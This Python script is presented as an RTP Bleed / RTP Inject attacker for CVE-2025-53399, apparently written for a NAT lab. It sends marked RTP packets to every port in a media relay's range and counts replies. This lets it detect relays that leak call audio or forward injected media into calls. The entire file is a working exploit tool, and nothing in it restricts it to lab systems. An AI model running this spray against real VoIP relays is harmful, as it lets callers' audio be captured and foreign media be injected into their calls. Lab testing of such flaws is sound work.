#!/usr/bin/env python3
"""An RTP Bleed / RTP Inject attacker (CVE-2025-53399), for the NAT lab: it sends a marked RTP
packet to every port of a relay's range, every INTERVAL_MS, for SECONDS, and counts what comes
back. A relay that leaks media sends the attacker a call's audio; one that accepts foreign
media forwards the marked packets into a call (a capture at the phones finds the marker).

Prints one JSON line: {"sent": N, "received": M}.

Usage: rtp_spray.py RELAY_IP FIRST_PORT LAST_PORT SECONDS INTERVAL_MS
"""

import json
import socket
import sys
import time

# The marker the phones' captures are searched for: SSRC 0xbadb1eed and this payload.
MARKER = b"RTP-BLEED-PROBE"


def main():
    relay, first, last, seconds, interval = sys.argv[1:6]
    first, last = int(first), int(last)
    seconds, interval = float(seconds), float(interval) / 1000.0
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    sent = received = seq = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for port in range(first, last + 1):
            seq = (seq + 1) & 0xFFFF
            packet = bytes([0x80, 8]) + seq.to_bytes(2, "big") + b"\0\0\0\0" + bytes.fromhex("badb1eed")
            try:
                sock.sendto(packet + MARKER + b"\xd5" * 145, (relay, port))
                sent += 1
            except OSError:
                pass
        while True:
            try:
                sock.recvfrom(2048)
                received += 1
            except (BlockingIOError, OSError):
                break
        time.sleep(interval)
    print(json.dumps({"sent": sent, "received": received}), flush=True)


if __name__ == "__main__":
    main()
